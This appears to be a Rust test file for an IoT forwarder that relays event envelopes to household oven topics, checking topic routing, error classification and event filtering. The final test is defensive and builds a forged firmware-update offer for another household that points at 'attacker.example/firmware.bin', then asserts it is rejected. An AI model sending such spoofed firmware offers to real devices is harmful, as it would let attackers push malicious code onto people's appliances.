//! The forwarder handler with a fake IoT publisher.

use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use iot_forwarder::{Forwarder, IotPublish, IotPublishError};
use postoffice::handler::testing::RecordingPublisher;
use postoffice::handler::{Consumer, ErrorKind};
use postoffice::invocation::HandlerInvocation;
use postoffice::{Envelope, Topic};
use serde_json::{Value, json};

const COOKING_REPLIED: &[u8] = include_bytes!("fixtures/cooking_replied.json");

#[derive(Default)]
struct FakeIot {
    sent: Mutex<Vec<(String, Vec<u8>)>>,
    answer: Mutex<Option<IotPublishError>>,
}

#[async_trait]
impl IotPublish for FakeIot {
    async fn publish(&self, topic: &Topic, payload: Vec<u8>) -> Result<(), IotPublishError> {
        if let Some(error) = self.answer.lock().unwrap().take() {
            return Err(error);
        }
        self.sent.lock().unwrap().push((topic.to_string(), payload));
        Ok(())
    }
}

fn forwarder() -> Consumer<Forwarder<FakeIot>> {
    let sns = Arc::new(RecordingPublisher::default());
    Consumer::new(
        Forwarder::new(FakeIot::default()),
        sns,
        "arn:aws:sns:eu-west-1:123456789012:postoffice-",
    )
}

fn iot(consumer: &Consumer<Forwarder<FakeIot>>) -> &FakeIot {
    consumer.handler().iot()
}

fn fixture() -> Value {
    serde_json::from_slice(COOKING_REPLIED).unwrap()
}

#[test]
fn the_fixture_round_trips() {
    let parsed: HandlerInvocation = serde_json::from_slice(COOKING_REPLIED).unwrap();
    let json = serde_json::to_value(&parsed).unwrap();
    assert_eq!(json, fixture());
    assert_eq!(
        serde_json::from_value::<HandlerInvocation>(json).unwrap(),
        parsed
    );
}

#[tokio::test]
async fn publishes_the_envelope_to_the_household_and_device_topic() {
    let consumer = forwarder();
    consumer.handle_invocation(fixture()).await.unwrap();

    let sent = iot(&consumer).sent.lock().unwrap().clone();
    assert_eq!(sent.len(), 1);
    let (topic, payload) = &sent[0];
    assert_eq!(topic, "COOKING_REPLIED/h-1/oven-1");
    let expected: HandlerInvocation = serde_json::from_slice(COOKING_REPLIED).unwrap();
    assert_eq!(Envelope::from_json(payload).unwrap(), expected.envelope);
}

#[tokio::test]
async fn throttling_and_outages_are_retryable_rejections_permanent() {
    for (answer, kind) in [
        (
            IotPublishError::Throttled("Rate exceeded".into()),
            ErrorKind::Retryable,
        ),
        (
            IotPublishError::Service("InternalFailure".into()),
            ErrorKind::Retryable,
        ),
        (
            IotPublishError::Transport("connection reset".into()),
            ErrorKind::Retryable,
        ),
        (
            IotPublishError::Rejected("InvalidRequest".into()),
            ErrorKind::Permanent,
        ),
    ] {
        let consumer = forwarder();
        *iot(&consumer).answer.lock().unwrap() = Some(answer);
        let error = consumer.handle_invocation(fixture()).await.unwrap_err();
        assert_eq!(error.kind(), kind, "{error}");
    }
}

#[tokio::test]
async fn an_envelope_without_a_valid_topic_is_permanent() {
    let consumer = forwarder();
    let mut invocation = fixture();
    invocation["envelope"]["device_id"] = json!("oven/+");
    let error = consumer.handle_invocation(invocation).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Permanent);
    assert!(error.message().contains("device id"), "{error}");
    assert!(iot(&consumer).sent.lock().unwrap().is_empty());
}

#[tokio::test]
async fn only_backend_to_actor_events_are_forwarded() {
    let consumer = forwarder();
    let mut invocation = fixture();
    invocation["envelope"]["event"] = json!("COOKING_REQUESTED");
    invocation["delivery"]["topic_arn"] =
        json!("arn:aws:sns:eu-west-1:123456789012:postoffice-COOKING_REQUESTED");
    invocation["envelope"]["payload"] =
        json!({"program": "bake", "temperature_c": 200, "duration_s": 600});
    let error = consumer.handle_invocation(invocation).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Permanent);
    assert!(
        error.message().contains("not a backend-to-actor event"),
        "{error}"
    );
    assert!(iot(&consumer).sent.lock().unwrap().is_empty());
}

/// The attack: a service allowed to publish COOKING_REPLIED publishes, on that topic, an
/// envelope saying FIRMWARE_UPDATE_OFFERED for some other household's oven. It passes the
/// signature check (SNS signed it) and is backend-to-actor, but it is not its topic's event.
#[tokio::test]
async fn an_envelope_on_the_topic_of_another_event_is_never_forwarded() {
    let consumer = forwarder();
    let mut invocation = fixture();
    invocation["envelope"]["event"] = json!("FIRMWARE_UPDATE_OFFERED");
    invocation["envelope"]["household_id"] = json!("h-victim");
    invocation["envelope"]["payload"] = json!({
        "version": "9.9.9",
        "url": "https://attacker.example/firmware.bin",
        "sha256": "0".repeat(64),
        "size_bytes": 1024,
        "mandatory": true
    });
    assert_eq!(
        invocation["delivery"]["topic_arn"],
        "arn:aws:sns:eu-west-1:123456789012:postoffice-COOKING_REPLIED"
    );
    let error = consumer.handle_invocation(invocation).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Permanent);
    assert!(
        error
            .message()
            .contains("says FIRMWARE_UPDATE_OFFERED but arrived on topic"),
        "{error}"
    );
    assert!(iot(&consumer).sent.lock().unwrap().is_empty());
}
